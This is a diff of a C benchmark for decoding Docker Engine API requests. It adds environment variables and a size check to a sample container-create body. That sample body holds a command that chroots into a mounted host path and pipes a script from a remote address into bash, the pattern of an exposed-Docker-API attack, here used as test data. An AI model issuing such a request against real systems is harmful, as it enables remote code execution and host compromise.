@@ -26,7 +26,9 @@ static const char bare_get[] = "GET /version HTTP/1.1\r\nHost: 192.0.2.1:2375\r\
 static const char body[] =
 	"{\"Hostname\":\"\",\"Domainname\":\"\",\"User\":\"\",\"AttachStdin\":false,"
 	"\"AttachStdout\":true,"
-	"\"AttachStderr\":true,\"Tty\":false,\"OpenStdin\":false,\"StdinOnce\":false,\"Env\":null,"
+	"\"AttachStderr\":true,\"Tty\":false,\"OpenStdin\":false,\"StdinOnce\":false,\"Env\":["
+	"\"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\",\"http_proxy=http://"
+	"192.0.2.77:3128\",\"TOKEN=0123456789abcdef0123456789abcdef\"],"
 	"\"Cmd\":["
 	"\"chroot\",\"/mnt\",\"sh\",\"-c\",\"curl -s http://198.51.100.7/x.sh | "
 	"bash\"],\"Image\":\"alpine\","
@@ -69,6 +71,14 @@ static double cpu_seconds(void)
 	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
 }
 
+static void must(bool condition, const char *what)
+{
+	if (condition)
+		return;
+	fprintf(stderr, "bench_decode: wrong result: %s\n", what);
+	exit(1);
+}
+
 /* With a docker client's head: 1.9 kB in all. */
 static void make_create(void)
 {
@@ -79,14 +89,7 @@ static void make_create(void)
 			 sizeof(body) - 1, body);
 
 	create_n = (size_t)n;
-}
-
-static void must(bool condition, const char *what)
-{
-	if (condition)
-		return;
-	fprintf(stderr, "bench_decode: wrong result: %s\n", what);
-	exit(1);
+	must(create_n > 1850 && create_n < 1950, "1.9 kB");
 }
 
 static void decode(struct arena *arena, struct decoded *d, const char *p, size_t n,
